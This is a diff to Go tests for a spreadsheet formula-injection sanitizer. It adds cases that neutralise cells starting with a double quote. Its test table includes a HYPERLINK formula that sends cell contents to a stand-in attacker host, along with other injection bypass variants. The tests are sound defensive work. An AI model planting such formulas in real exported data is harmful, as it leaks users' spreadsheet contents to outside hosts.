@@ -21,6 +21,7 @@ func TestHarvestHoldsNoFormula(t *testing.T) {
 		"=HYPERLINK(\"http://evil.example/?\"&A1)": "'=HYPERLINK(\"http://evil.example/?\"&A1)",
 		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "＝1+1": "'＝1+1",
 		"\t=1": "'=1", "\r\n =1": "'=1", "\x1b=1": "'=1", "\u200b=1": "'=1",
+		"\"=1+1\"": "'\"=1+1\"", "\"Bees": "'\"Bees", "the \"dance\"": "the \"dance\"",
 		"1 = 1": "1 = 1", "a-b": "a-b", "'=1": "'=1", "": "",
 	} {
 		var h Harvest
@@ -40,7 +41,7 @@ func TestCellProperty(t *testing.T) {
 	rapid.Check(t, func(t *rapid.T) {
 		s := rapid.String().Draw(t, "text")
 		c := Cell(s)
-		if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r\n") || strings.ContainsAny(c, "\t\r\n") {
+		if c != "" && strings.ContainsAny(c[:1], "=+-@\"\t\r\n") || strings.ContainsAny(c, "\t\r\n") {
 			t.Fatalf("%q → %q", s, c)
 		}
 		if c != Line(s) && c != "'"+Line(s) || Cell(c) != c {
